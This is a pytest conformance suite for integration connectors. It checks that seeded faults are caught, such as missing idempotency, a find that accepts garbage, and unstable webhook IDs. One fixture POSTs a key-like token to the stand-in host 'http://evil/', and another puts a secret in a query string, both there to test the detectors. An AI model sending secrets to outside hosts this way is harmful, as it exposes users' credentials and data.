"""The suite that connectors inherit: a sound one passes it, and each fault is found."""

from __future__ import annotations

import json
from datetime import datetime

import pytest
from partner_depot import ORDER, build, depot, look, looked, read

from crossdock.connect.conformance import Conformance, Example, Told
from crossdock.connect.contract import Happening, Operation, Request, Response, Webhook, exchange
from crossdock.connect.signatures import Scheme
from crossdock.errors import Refused


def answer(value, status=200):
    return Response(status, {}, json.dumps(value).encode())


def translate(notice):
    value = notice.json()
    if not isinstance(value, dict) or "shipment" not in value:
        raise Refused("not a shipment")
    yield Happening(
        type="shipment.delivered",
        time=datetime.fromisoformat(value["at"]),
        data={"shipment": value["shipment"]},
    )


SOUND = depot(
    secrets={"key": "", "hook": ""},
    events=("shipment.delivered",),
    webhook=Webhook(signature=Scheme(kind="hmac", header="S"), translate=translate, secret="hook"),
)
PICK = Example(
    operation="create_pick",
    data={"order": ORDER},
    answers=[answer({"id": "P-1"}, 201)],
    output={"pick": "P-1"},
    found=[answer({"items": [{"id": "P-1"}]})],
    not_found=[answer({"items": []})],
)
TOLD = Told(body=b'{"shipment": "S-1", "at": "2026-03-02T10:00:00Z"}', types=["shipment.delivered"])


class TestDepot(Conformance):
    connector = SOUND
    settings = {"url": "http://depot.example"}  # noqa: RUF012
    secrets = {"key": "k-123456", "hook": "h-123456"}  # noqa: RUF012
    examples = (PICK,)
    notices = (TOLD,)


def faults(connector=SOUND, **given):
    """The names of the tests that fail."""
    suite = type("Faulty", (TestDepot,), {"connector": connector, **given})()
    found = []
    for name in dir(suite):
        if name.startswith("test_"):
            try:
                getattr(suite, name)()
            except (AssertionError, Refused):
                found.append(name)
    return found


def picking(**changed):
    given = {
        "name": "create_pick",
        "do": exchange(build, read),
        "idempotency": "find",
        "find": exchange(look, looked),
    }
    return depot(
        secrets=SOUND.secrets,
        events=SOUND.events,
        webhook=SOUND.webhook,
        operations=(Operation(**{**given, **changed}),),
    )


def test_a_sound_connector_passes():
    assert faults() == []


@pytest.mark.parametrize(
    ("connector", "fault"),
    [
        (picking(idempotency=None), "test_its_declaration_holds_together"),
        (picking(do=exchange(lambda *_: Request("POST", "/picks", json={}), read)), "test_what_changes_carries_our_key_where_a_repeat_relies_on_it"),
        (picking(do=exchange(lambda *_: Request("POST", "http://evil/", json={"k": "XD0123456789abcdef01234567"}), read)), "test_requests_stay_below_the_connections_address"),
        (picking(find=exchange(look, lambda r, _: ({"pick": r.json()["items"][0]["id"]} if b"P-1" in r.body else None))), "test_no_find_takes_garbage_for_nothing_there"),
        (picking(find=exchange(lambda _, c: Request("POST", "/search", json={"r": c.key}), looked)), "test_what_was_done_is_found_and_what_was_not_is_not"),
        (picking(do=exchange(build, lambda *_: {"pick": "P-1"})), "test_an_answer_cut_short_is_never_taken_for_done"),
        (picking(do=exchange(build, lambda *_: {"pick": 7})), "test_examples_give_what_they_say_in_the_types_that_are_declared"),
    ],
)  # fmt: skip
def test_a_fault_is_found(connector, fault):
    assert fault in faults(connector)


def test_a_webhook_that_gives_new_ids_each_time_is_found():
    numbers = iter(range(1000))

    def counting(notice):
        for one in translate(notice):
            yield Happening(type=one.type, time=one.time, data=one.data, id=f"n{next(numbers)}")

    webhook = Webhook(signature=Scheme(kind="hmac", header="S"), translate=counting, secret="hook")
    connector = depot(secrets=SOUND.secrets, events=SOUND.events, webhook=webhook)
    assert faults(connector) == ["test_the_same_webhook_again_has_the_same_ids"]


def test_a_webhook_whose_garbage_escapes_is_found():
    def careless(notice):
        value = notice.json()
        yield Happening(
            type="shipment.delivered",
            time=datetime.fromisoformat(value["at"]),
            data={"shipment": value["shipment"]},
        )

    webhook = Webhook(signature=Scheme(kind="hmac", header="S"), translate=careless, secret="hook")
    connector = depot(secrets=SOUND.secrets, events=SOUND.events, webhook=webhook)
    assert faults(connector) == ["test_a_webhook_that_is_garbage_is_refused"]


def test_a_secret_in_a_request_is_found():
    leaking = picking(do=exchange(lambda _, c: Request("POST", "/p?k=k-123456", json={"r": c.key}), read))
    assert "test_secrets_are_not_to_be_seen" in faults(leaking)


def test_an_operation_that_no_example_shows_is_found():
    assert faults(examples=()) == ["test_every_operation_has_an_example"]
